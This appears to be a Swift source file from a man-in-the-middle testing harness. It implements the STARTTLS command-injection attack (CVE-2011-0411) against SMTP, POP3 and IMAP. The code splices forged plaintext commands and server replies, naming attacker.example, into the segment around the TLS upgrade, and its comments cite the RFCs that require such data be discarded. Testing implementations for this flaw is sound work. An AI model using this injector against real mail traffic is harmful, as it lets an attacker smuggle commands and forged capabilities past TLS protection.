/// Puts a command of its own in the clear behind the client's wish for TLS, and an answer of its
/// own behind the server's go-ahead, each in the same segment; then it lets TLS pass.
///
/// An end that keeps what it had read before TLS takes both for words of the other, said under
/// its protection (CVE-2011-0411). RFC 3207 §4.2 and RFC 2595 §4 want them thrown away.
struct Injector: Tampering {
    private let spoken: AttackedProtocol
    private var watch: UpgradeWatch
    private var client = LineCutter()
    private var server = LineCutter()

    init(_ spoken: AttackedProtocol) {
        self.spoken = spoken
        watch = UpgradeWatch(spoken)
    }

    /// What a server would obey that keeps it.
    private var command: String {
        switch spoken {
        case .smtp: "MAIL FROM:<mallory@attacker.example>"
        case .pop3: "USER mallory@attacker.example"
        case .imap: "m1 LOGIN mallory@attacker.example forged"
        }
    }

    /// What a client would believe that keeps it.
    private var answer: String {
        switch spoken {
        case .smtp: "250 forged.attacker.example AUTH LOGIN"
        case .pop3: "+OK forged by attacker.example"
        case .imap: "* CAPABILITY IMAP4rev1 AUTH=LOGIN X-FORGED"
        }
    }

    mutating func handle(_ input: TamperInput, into outbox: inout [TamperOutput]) {
        switch input {
        case .received(.client, let octets): passClient(octets, into: &outbox)
        case .received(.server, let octets): passServer(octets, into: &outbox)
        case .secured: break
        }
    }

    private mutating func passClient(_ new: [UInt8], into outbox: inout [TamperOutput]) {
        client.append(new)
        var onward: [UInt8] = []
        var injected: String?
        while !watch.isOver, !watch.isAsked, let line = client.nextLine() {
            onward += line
            if watch.said(line) {
                onward += octets(command)
                injected = command
            }
        }
        if watch.isOver || watch.isAsked { onward += client.takeAll() }
        if let injected { outbox.append(.deed(.injected(to: .server, text: injected))) }
        if !onward.isEmpty { outbox.append(.send(.server, onward)) }
    }

    private mutating func passServer(_ new: [UInt8], into outbox: inout [TamperOutput]) {
        server.append(new)
        var onward: [UInt8] = []
        var injected: String?
        while !watch.isOver, let line = server.nextLine() {
            onward += line
            if watch.heard(line) == .goAhead {
                onward += octets(answer)
                injected = answer
            }
        }
        if watch.isOver { onward += server.takeAll() }
        if let injected { outbox.append(.deed(.injected(to: .client, text: injected))) }
        if !onward.isEmpty { outbox.append(.send(.client, onward)) }
    }
}
